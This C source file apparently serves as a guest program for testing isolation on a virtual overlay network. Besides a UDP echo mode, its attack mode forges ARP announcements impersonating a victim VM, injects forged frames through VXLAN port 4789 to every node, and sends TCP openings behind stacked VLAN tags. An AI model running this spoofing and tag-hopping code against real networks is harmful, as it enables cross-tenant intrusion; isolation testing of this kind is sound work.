/* Root in a guest on the overlay. `guest echo` sends back each datagram to port 7. `guest attack MAC IP NODE...` sends, in rounds:
 *
 * - to port 4789 of each node, from that port and from another, packets of the tunnel with forged frames of the VM with this address;
 * - on the overlay, forged ARP, frames with the VM's hardware address, and connections to the VM's guest program in tagged frames.
 *
 * It reports rounds, and answers of the VM's guest program. */

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

typedef unsigned char byte;

static byte victim[6], own[6];
static unsigned victim_ip, own_ip;
static const byte all[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};

static unsigned put(byte *to, const void *from, unsigned length)
{
    memcpy(to, from, length);
    return length;
}

/* An announcement that an address is at a hardware address. */
static unsigned arp(byte *to, const byte *source, const byte *sender, unsigned address)
{
    unsigned at = put(to, all, 6);
    at += put(to + at, source, 6);
    at += put(to + at, "\x08\x06\0\x01\x08\0\x06\x04\0\x02", 10);
    for (int both = 0; both < 2; both++) {
        at += put(to + at, sender, 6);
        at += put(to + at, &address, 4);
    }
    return at;
}

static unsigned short sum(const byte *bytes, unsigned length, unsigned more)
{
    for (unsigned at = 0; at < length; at += 2)
        more += bytes[at] << 8 | bytes[at + 1];
    while (more >> 16)
        more = (more & 0xffff) + (more >> 16);
    return htons(~more);
}

/* The beginning of a connection to a port of the VM, behind so many bytes of tags. */
static unsigned opening(byte *to, const void *tags, unsigned length, unsigned port)
{
    unsigned at = put(to, victim, 6);
    at += put(to + at, own, 6);
    at += put(to + at, tags, length);
    at += put(to + at, "\x08\0", 2);
    byte *ip = to + at;
    memcpy(ip, "\x45\0\0\x28\0\0\0\0\x40\x06\0\0", 12);
    memcpy(ip + 12, &own_ip, 4);
    memcpy(ip + 16, &victim_ip, 4);
    unsigned short ip_sum = sum(ip, 20, 0);
    memcpy(ip + 10, &ip_sum, 2);
    byte *tcp = ip + 20;
    memset(tcp, 0, 20);
    tcp[0] = 0x9c, tcp[1] = 0x40, tcp[2] = port >> 8, tcp[3] = port & 255;
    tcp[12] = 0x50, tcp[13] = 2, tcp[14] = 0xff;
    unsigned short tcp_sum = sum(ip + 12, 28, 6 + 20);
    memcpy(tcp + 16, &tcp_sum, 2);
    return at + 40;
}

static int answers(int raw)
{
    byte bytes[2048];
    struct sockaddr_ll from;
    socklen_t size = sizeof from;
    int count = 0, length;
    while ((length = recvfrom(raw, bytes, sizeof bytes, MSG_DONTWAIT, (struct sockaddr *)&from, &size)) > 0) {
        static const byte port[2] = {25183 >> 8, 25183 & 255};
        if (from.sll_pkttype != PACKET_OUTGOING && length >= 54 && memcmp(bytes + 6, victim, 6) == 0)
            count += memmem(bytes + 12, length - 12, port, 2) != NULL;
        size = sizeof from;
    }
    return count;
}

static void attack(int nodes, char **names)
{
    static const struct { const char *bytes; unsigned length; } tags[] = {
        {"\x81\0\0\0", 4}, {"\x88\xa8\0\0", 4}, {"\x91\0\0\0", 4}, {"\x81\0\0\0\x81\0\0\0", 8},
        {"\x88\xa8\0\0\x81\0\0\0", 8}, {"\x81\0\0\0\x88\xa8\0\0", 8}, {"\x81\0\0\0\x81\0\0\0\x81\0\0\0", 12},
    };
    int raw = socket(AF_PACKET, SOCK_RAW, htons(3 /* all */));
    struct ifreq asked = {.ifr_name = "eth1"};
    while (ioctl(raw, SIOCGIFADDR, &asked) != 0)
        usleep(100000);
    own_ip = ((struct sockaddr_in *)&asked.ifr_addr)->sin_addr.s_addr;
    ioctl(raw, SIOCGIFHWADDR, &asked);
    memcpy(own, asked.ifr_hwaddr.sa_data, 6);
    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex("eth1"), .sll_halen = 6};
    at.sll_protocol = htons(3);
    bind(raw, (struct sockaddr *)&at, sizeof at);
    int udp[2] = {socket(AF_INET, SOCK_DGRAM, 0), socket(AF_INET, SOCK_DGRAM, 0)};
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(4789)};
    bind(udp[0], (struct sockaddr *)&here, sizeof here);

    unsigned rounds = 0, answered = 0;
    for (;; rounds++) {
        byte frames[3][64];
        unsigned lengths[3] = {
            arp(frames[0], victim, victim, victim_ip),
            arp(frames[1], own, own, victim_ip),
            arp(frames[2], victim, own, victim_ip),
        };
        for (int frame = 0; frame < 3; frame++) {
            sendto(raw, frames[frame], lengths[frame], 0, (struct sockaddr *)&at, sizeof at);
            byte packet[80] = {8, 0, 0, 0, 0, 0, 100, 0};
            memcpy(packet + 8, frames[frame], lengths[frame]);
            for (int node = 0; node < nodes; node++) {
                struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4789)};
                inet_aton(names[node], &to.sin_addr);
                for (int from = 0; from < 2; from++)
                    sendto(udp[from], packet, 8 + lengths[frame], 0, (struct sockaddr *)&to, sizeof to);
            }
        }
        for (unsigned tag = 0; tag < sizeof tags / sizeof *tags; tag++) {
            byte frame[128];
            unsigned length = opening(frame, tags[tag].bytes, tags[tag].length, 25183);
            sendto(raw, frame, length, 0, (struct sockaddr *)&at, sizeof at);
        }
        answered += answers(raw);
        if (rounds % 20 == 0) {
            printf("attack: %u rounds, %u answers\n", rounds, answered);
            fflush(stdout);
        }
        usleep(20000);
    }
}

static void echo(void)
{
    int udp = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(7)}, from;
    bind(udp, (struct sockaddr *)&here, sizeof here);
    for (;;) {
        char bytes[2048];
        socklen_t size = sizeof from;
        int length = recvfrom(udp, bytes, sizeof bytes, 0, (struct sockaddr *)&from, &size);
        if (length > 0)
            sendto(udp, bytes, length, 0, (struct sockaddr *)&from, size);
    }
}

int main(int count, char **words)
{
    if (count < 5)
        echo();
    for (int at = 0; at < 6; at++)
        victim[at] = strtoul(words[2] + 3 * at, NULL, 16);
    victim_ip = inet_addr(words[3]);
    attack(count - 4, words + 4);
}
